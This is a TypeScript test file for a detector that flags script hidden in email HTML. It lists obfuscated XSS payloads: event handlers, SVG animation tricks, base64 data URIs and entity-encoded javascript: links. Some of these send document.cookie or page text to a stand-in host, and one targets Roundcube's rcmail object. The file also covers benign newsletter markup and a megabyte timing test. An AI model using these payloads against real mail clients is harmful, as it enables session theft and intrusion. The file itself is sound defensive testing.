import assert from 'node:assert/strict'
import { test } from 'node:test'
import { scriptIn } from './script-in-html.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')

test('code that runs when the mail is opened and fetches, decodes or reads the mailbox is told, however it is written', () => {
  for (const html of [
    '<img src=x onerror="fetch(\'https://c.example/\'+document.cookie)">',
    "<IMG SRC='a.gif' OnErRoR = 'eval(atob(this.alt))' alt='YWxlcnQoMSk='>",
    '<svg><animate onbegin="import(\'//c.example/a.js\')" attributeName="x" dur="1s"/></svg>',
    '<svg/onload=fetch(`//c.example/a`)>',
    '<details open ontoggle="top.rcmail.http_post(\'mail\')">x</details>',
    '<input autofocus onfocus="new XMLHttpRequest().open(1,2)">',
    '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=parent.$.post(1) x=y">',
    '<p title="</noembed><img src=x onerror=eval(atob(1))>">news</p>',
    "<img src=\"x\" onerror=\"window['fe'+'tch']('//c.example')\">",
    '<img src="p.png" onload="\\u0065val(name)">',
    '<img src="p.png" onload="&#101;val(&#97;tob(name))">',
    '<video><source onerror="document[\'cookie\'].big()"></video>',
    '<div onmouseover="navigator.sendBeacon(\'//c.example\', document.body.innerText)" style="position:fixed;inset:0">',
    `<svg><use href="data:image/svg+xml;base64,${base64('<svg id="a"><script>x()</script></svg>')}#a"/></svg>`,
    `<iframe src="data:text/html;base64,${base64('<script>alert(1)</script>')}"></iframe>`,
    '<iframe srcdoc="&lt;img src=x onerror=fetch(1)&gt;"></iframe>',
    '<iframe src="java&#9;script:eval(name)"></iframe>',
    '<embed src="j&#97;v&#97;script:fetch(1)">',
    '<svg><a><animate attributeName="href " values="javascript:f()"/><text>view</text></a></svg>',
    '<script>eval(atob("x"));fetch("//c.example")</script>',
    '<img src=x onerror="run(1)">',
  ])
    assert.notEqual(scriptIn(`<html><body><p>本日のニュース</p>${html}</body></html>`), '', html)
})

test('what a pasted page or a tool for newsletters leaves behind is none, nor is code that is only written of', () => {
  for (const html of [
    '<script type="application/ld+json">{"@type":"EmailMessage","potentialAction":{"@type":"ViewAction","url":"https://shop.example/fetch(1)"}}</script>',
    '<script async src="https://cdn.ampproject.org/v0.js"></script><script src="https://tracker.example/t.js"></script>',
    "<body onload=\"MM_preloadImages('a.gif','b.gif')\"><a href=\"#\" onmouseover=\"MM_swapImage('m','','b.gif',1)\" onclick=\"window.open('x')\">メニュー</a>",
    '<img src="photo.jpg" onerror="this.style.display=\'none\'"><img src="x" onerror="this.src=\'no.png\'"><img src="1" onerror="imgError(this)">',
    '<a href="javascript:void(0)">閉じる</a><a href="javascript:window.print()">Drucken</a>',
    '<iframe src="javascript:false"></iframe><iframe src=\'javascript:"<html></html>"\'></iframe>',
    "<a onclick=\"ga('send','event');fetch('/count')\" href=\"https://shop.example/\">Shop</a>",
    "<script>(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.src=g})(window,document,'script','//www.google-analytics.com/analytics.js','ga');</script>",
    '<script>document.write(unescape("%3Cscript src=\'stat.js\'%3E"))</script>',
    '<p>&lt;img src=x onerror=eval(atob(1))&gt; という攻撃がRoundcubeで見つかりました</p>',
    '<a href="https://x.example/?onload=1&onerror=fetch(1)">Bericht</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="on time = fetch (it)">',
    `<img src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')}">`,
    '<td background="x.gif" onload="document.getElementById(\'q\').focus()">',
    '<svg><animate attributeName="r" values="1;2;1" dur="1s" repeatCount="indefinite"/></svg>',
  ])
    assert.equal(scriptIn(`<html><body>${html}</body></html>`), '', html)
})

/** a minute and more for each that is looked at again from every place in it */
test('a hostile page of a megabyte is read in one go', { timeout: 60_000 }, () => {
  const started = performance.now()
  const blanks = ' '.repeat(1_000_000)
  for (const page of [`=${blanks}x`, `="${blanks}x`, `= j${blanks}x`, ` onload${blanks}x`, `<a onload${blanks}>`])
    scriptIn(page)
  for (const piece of ['<img onerror="', '<iframe srcdoc="&lt;iframe srcdoc=', '<a onload=x ', '<script>'])
    scriptIn(piece.repeat(Math.ceil(1_000_000 / piece.length)))
  assert.ok(performance.now() - started < 5_000)
})
